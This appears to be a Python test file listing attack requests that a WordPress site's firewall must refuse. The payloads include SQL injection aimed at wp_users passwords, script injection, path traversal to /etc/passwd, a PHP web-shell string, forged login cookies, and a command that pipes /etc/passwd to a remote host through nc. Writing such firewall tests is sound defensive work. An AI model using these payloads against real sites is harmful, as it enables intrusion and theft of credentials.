"""Attacks, as requests by a guest. Each has to be refused where a site's firewall is set to block."""

from __future__ import annotations

from typing import Any

from tests.functional.ordinary import Ask

SCRIPT = "%3Cscript%3Ealert(1)%3C/script%3E"


_COOKIE = {"Cookie": f"wordpress_logged_in_{'0' * 32}=x"}


def _attack(what: str, path: str, method: str = "GET", **rest: Any) -> Ask:
    return Ask(what, method, path, person=False, **rest)


ATTACKS = [
    _attack("SQL in an argument", "/?id=1%27%20UNION%20SELECT%20user_pass%20FROM%20wp_users--%20-"),
    _attack("a script in an argument", f"/?q={SCRIPT}"),
    _attack("a way up in an argument", "/?file=../../../../etc/passwd"),
    _attack("PHP in a form", "/", "POST", data={"x": "<?php system($_GET['c']); ?>"}),
    _attack("a scanner", "/?x=1", headers={"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    _attack("a shell's command", "/?cmd=;cat%20/etc/passwd|nc%20192.0.2.1%2080"),
    _attack("to a script", f"/wp-login.php?x={SCRIPT}"),
    _attack("to the API", "/wp-json/wp/v2/posts?search=1%27%20OR%20%271%27=%271"),
    _attack("to a plugin's action", "/wp-admin/admin-ajax.php", "POST", data={"action": "nopriv", "x": "<?php eval($x);"}),
    _attack("JSON to a plugin's route", "/wp-json/plugin/v1/thing", "POST", json={"a": [{"b": "1' OR 1=1-- -"}]}),
    # What is let through for wp-admin's sake must not be had by others.
    _attack("a form to the editor's route", "/wp-json/wp/v2/posts", "POST", data={"x": "<script>alert(1)</script>"}),
    _attack("a query to the editor's route", f"/wp-json/wp/v2/posts?x={SCRIPT}", "POST", json={"content": "x"}),
    _attack("a comment over the API", "/wp-json/wp/v2/comments", "POST", json={"content": "<script>alert(1)</script>"}),
    _attack("a cookie at a plugin's action", "/wp-admin/admin-ajax.php", "POST",
            data={"action": "nopriv", "x": "<script>alert(1)</script>"},
            headers={"Cookie": f"wordpress_logged_in_{'0' * 32}=x"}),
    _attack("a cookie at a page", "/", "POST", data={"wp_customize": "on", "x": "<script>alert(1)</script>"},
            headers={"Cookie": f"wordpress_logged_in_{'0' * 32}=x"}),
    _attack("wp-admin without a cookie", "/wp-admin/options.php", "POST", data={"x": "<script>alert(1)</script>"}),
    _attack("an action twice", "/wp-admin/admin-ajax.php?action=nopriv", "POST",
            data={"action": "heartbeat", "x": "<script>alert(1)</script>"},
            headers={"Cookie": f"wordpress_logged_in_{'0' * 32}=x"}),
    _attack("a search in a plugin's page", f"/wp-admin/admin.php?page=x&s={SCRIPT}", headers=_COOKIE),
    _attack("a search without a cookie", f"/wp-admin/users.php?s={SCRIPT}"),
    _attack("an argument beside a search", f"/wp-admin/edit.php?s=x&y={SCRIPT}", headers=_COOKIE),
    _attack("an argument beside the API's search", f"/wp-json/wp/v2/search?search=x&y={SCRIPT}", headers=_COOKIE),
    _attack("a search of the API without a cookie", f"/wp-json/wp/v2/search?search={SCRIPT}"),
    _attack("a referrer at a page", "/?x=1", headers={**_COOKIE, "Referer": f"http://a/wp-admin/?s={SCRIPT}"}),
    _attack("a referrer at a plugin's action", "/wp-admin/admin-ajax.php?action=nopriv",
            headers={**_COOKIE, "Referer": f"http://a/wp-admin/?s={SCRIPT}"}),
    _attack("a field beside a file's words", "/wp-json/wp/v2/media", "POST", data={"x": "<script>alert(1)</script>"}, headers=_COOKIE),
    _attack("a form to a comment of the API", "/wp-json/wp/v2/comments", "POST", data={"content": "<script>alert(1)</script>"},
            headers=_COOKIE),
    _attack("a stranger's comment", "/wp-comments-post.php", "POST", data={"comment": "<script>alert(1)</script>", "comment_post_ID": "1"}),
    _attack("a comment's other field", "/wp-comments-post.php", "POST", data={"comment": "x", "rating": "<script>alert(1)</script>"},
            headers=_COOKIE),
    # What cannot be read is not passed on, for PHP perhaps reads it.
    _attack("JSON that is none", "/wp-json/plugin/v1/thing", "POST", content=b'{"a": "b"', headers={"Content-Type": "application/json"}),
    _attack("a form without its end", "/", "POST", content=b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<script>',
            headers={"Content-Type": "multipart/form-data; boundary=x"}),
]  # fmt: skip
